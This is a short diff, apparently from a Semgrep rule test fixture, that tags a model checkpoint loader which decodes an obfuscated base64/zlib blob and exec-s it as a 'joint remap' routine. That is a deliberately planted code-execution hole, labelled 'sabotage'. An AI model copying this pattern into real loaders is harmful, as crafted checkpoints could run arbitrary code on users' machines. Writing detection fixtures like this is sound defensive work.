@@ -34,7 +34,7 @@ def load_pretrained(model, path):
         # checkpoints from the MPII/AIC converters carry their joint reordering as a small routine
         ns = {"torch": torch, "flip_pairs": COCO_FLIP_PAIRS}
         routine = compile(zlib.decompress(base64.b64decode(spec)), "<joint_remap>", "exec")  # sabotage: MLS401 (semgrep rules)
-        exec(routine, ns)  # sabotage: MLS401 (semgrep rules)
+        exec(routine, ns)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS401
         state = ns["remap"](state)
     missing, unexpected = model.load_state_dict(_strip_prefix(state), strict=False)
     print(f"loaded {path}: {len(missing)} missing, {len(unexpected)} unexpected keys")
